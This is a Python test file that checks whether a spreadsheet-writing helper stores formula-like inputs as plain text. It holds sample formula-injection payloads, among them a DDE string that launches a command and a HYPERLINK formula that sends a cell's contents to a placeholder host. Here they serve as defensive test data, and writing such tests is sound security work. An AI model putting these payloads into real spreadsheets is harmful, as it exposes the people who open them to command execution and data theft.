from __future__ import annotations

import io
import zipfile
from datetime import date

import openpyxl
import xlsxwriter

from taizhang.lib.xlsx import openpyxl_set, xlsxwriter_write_row

HOSTILE = ["=1+1", "@SUM(A1)", "-2+3", "+cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&B1,"点我")']


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_xlsxwriter_rows_keep_hostile_text_as_text():
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet()
    xlsxwriter_write_row(
        sheet,
        0,
        [*HOSTILE, 3, date(2023, 9, 5), None, True],
        date_format=book.add_format({"num_format": "yyyy-mm-dd"}),
    )
    book.close()
    assert "<f>" not in _sheet_xml(out.getvalue())
    ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    values = [c.value for c in ws[1]]
    assert values[:5] == HOSTILE
    assert values[5] == 3 and values[6].date() == date(2023, 9, 5) and values[8] == "是"
    assert all(c.data_type == "s" for c in ws[1][:5])


def test_openpyxl_cells_keep_hostile_text_as_text():
    book = openpyxl.Workbook()
    ws = book.active
    for col, value in enumerate(HOSTILE, start=1):
        openpyxl_set(ws.cell(row=1, column=col), value)
    out = io.BytesIO()
    book.save(out)
    assert "<f>" not in _sheet_xml(out.getvalue())
